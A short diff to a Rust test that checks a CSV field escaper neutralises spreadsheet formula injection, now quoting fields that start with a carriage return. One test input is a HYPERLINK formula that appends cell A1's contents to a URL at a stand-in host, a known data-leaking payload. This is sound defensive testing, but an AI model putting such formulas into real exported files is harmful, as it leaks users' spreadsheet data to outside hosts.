@@ -20,9 +20,10 @@ fn of_a_heap_of_marks_on_a_letter_eight_stay() {
 
 #[test]
 fn a_name_is_not_a_formula_in_a_spreadsheet() {
-    for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"] {
+    for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1"] {
         assert_eq!(csv_field(formula), format!("'{formula}"));
     }
+    assert_eq!(csv_field("\r=1"), "\"'\r=1\"", "an end of a line is quoted");
     let link = "=HYPERLINK(\"http://example.org/\"&A1,\"x\")";
     assert_eq!(csv_field(link), "\"'=HYPERLINK(\"\"http://example.org/\"\"&A1,\"\"x\"\")\"");
     for name in ["Ann", "a-b", "'quoted", "1=1"] {
